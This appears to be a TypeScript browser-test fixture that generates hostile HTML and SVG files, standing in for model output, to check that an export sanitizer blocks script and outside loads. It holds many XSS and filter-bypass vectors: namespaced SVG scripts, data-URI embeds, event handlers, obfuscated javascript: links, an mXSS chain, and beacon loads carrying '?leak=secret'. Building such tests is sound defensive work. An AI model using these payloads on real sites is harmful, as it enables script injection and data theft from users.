// Model output that tries to run script, load from elsewhere or navigate when an exported file is
// opened. Every load points at `beacon` (a local server in the browser test); every script sets
// `top.__pwned` and logs "pwned", so a test sees both a fetch and a script that ran.

const run = (label: string) => `top.__pwned='${label}';console.log('pwned ${label}')`;
const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');

/** A landing page with the payloads of the review and more from OWASP's XSS cheat sheet. */
export function hostileLandingPage(beacon: string): string {
  return [
    '<!doctype html><html><head><!-- <head> -->',
    `<meta http-equiv="refresh" content="0;url=${beacon}/refresh?leak=secret">`,
    `<link rel="stylesheet" href="${beacon}/stylesheet">`,
    `<base href="${beacon}/base/">`,
    `<style>@import url(${beacon}/import); body { background: url("${beacon}/background") }</style>`,
    `<script>${run('script')}</script>`,
    '</head><body>',
    '<h1>Spring trail shoe</h1><p class="lede">Lighter on every climb.</p><p>Ready for the weekend?</p>',
    `<iframe srcdoc="&lt;script&gt;${run('srcdoc')}&lt;/script&gt;"></iframe>`,
    `<object data="data:text/html;base64,${base64(`<script>${run('object')}</script>`)}"></object>`,
    `<embed src="data:text/html;base64,${base64(`<script>${run('embed')}</script>`)}">`,
    `<img src="${beacon}/image?leak=secret">`,
    `<img src=x onerror="${run('onerror')}">`,
    `<svg/onload="${run('svg-onload')}"><image href="${beacon}/svg-image"/></svg>`,
    `<body onload="${run('body-onload')}">`,
    `<a href="jav&#x09;ascript:${run('tab-link')}">tab</a>`,
    `<video poster="${beacon}/poster"></video><audio src="${beacon}/audio" autoplay></audio>`,
    `<picture><source srcset="${beacon}/srcset"><img alt="p"></picture>`,
    `<input type="image" src="${beacon}/input-image"><table background="${beacon}/table-background"><tr><td>t</td></tr></table>`,
    `<div style="background-image: url(${beacon}/inline-style)">styled</div>`,
    `<form action="${beacon}/form"><button>Join</button></form>`,
    `<template><script>${run('template')}</script></template><noscript><p>no script</p></noscript>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${run('mxss')}">`,  // swallows the rest in a stylesheet
    // An unclosed comment would swallow anything appended after the model's markup.
    '<!-- swallow the rest',
  ].join('\n');
}

/** A banner SVG whose script hides in the XHTML namespace, with more ways to run or load. */
export function hostileBanner(beacon: string): string {
  return [
    '<?xml version="1.0"?>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="1200" height="628" viewBox="0 0 1200 628">',
    `<h:script>${run('xhtml-script')}</h:script>`,
    `<script>${run('svg-script')}</script>`,
    `<style>@import url(${beacon}/svg-import); rect { fill: url(${beacon}/svg-style#p) }</style>`,
    '<defs><linearGradient id="sky" x1="0" y1="0" x2="0" y2="1"><stop offset="0" stop-color="#0a66c2"/><stop offset="1" stop-color="#7fb3e6"/></linearGradient></defs>',
    `<rect width="1200" height="628" fill="url(#sky)" onload="${run('rect-onload')}"/>`,
    `<image href="${beacon}/svg-image" width="10" height="10"/><image xlink:href="${beacon}/svg-xlink-image" width="10" height="10"/>`,
    `<use href="${beacon}/use.svg#shape"/>`,
    `<circle cx="100" cy="100" r="40" fill="url(${beacon}/fill#p)" style="stroke: url(${beacon}/stroke-style#p)"/>`,
    `<foreignObject width="100" height="100"><h:iframe src="${beacon}/foreign-iframe"></h:iframe></foreignObject>`,
    `<a href="javascript:${run('svg-link')}"><text x="60" y="320" font-size="72" fill="#fff">Spring trail shoe</text></a>`,
    `<set attributeName="onload" to="${run('set')}"/><animate attributeName="href" to="javascript:${run('animate')}"/>`,
    `<h:img src="${beacon}/xhtml-img"/>`,
    '</svg>',
  ].join('');
}

/** The review's banner: nothing but an XHTML-namespaced script, which passed the old checks. */
export function namespacedScriptBanner(): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="628" viewBox="0 0 1200 628"><rect width="1200" height="628" fill="#0a66c2"/><h:script xmlns:h="http://www.w3.org/1999/xhtml">${run('h-script')}</h:script></svg>`;
}
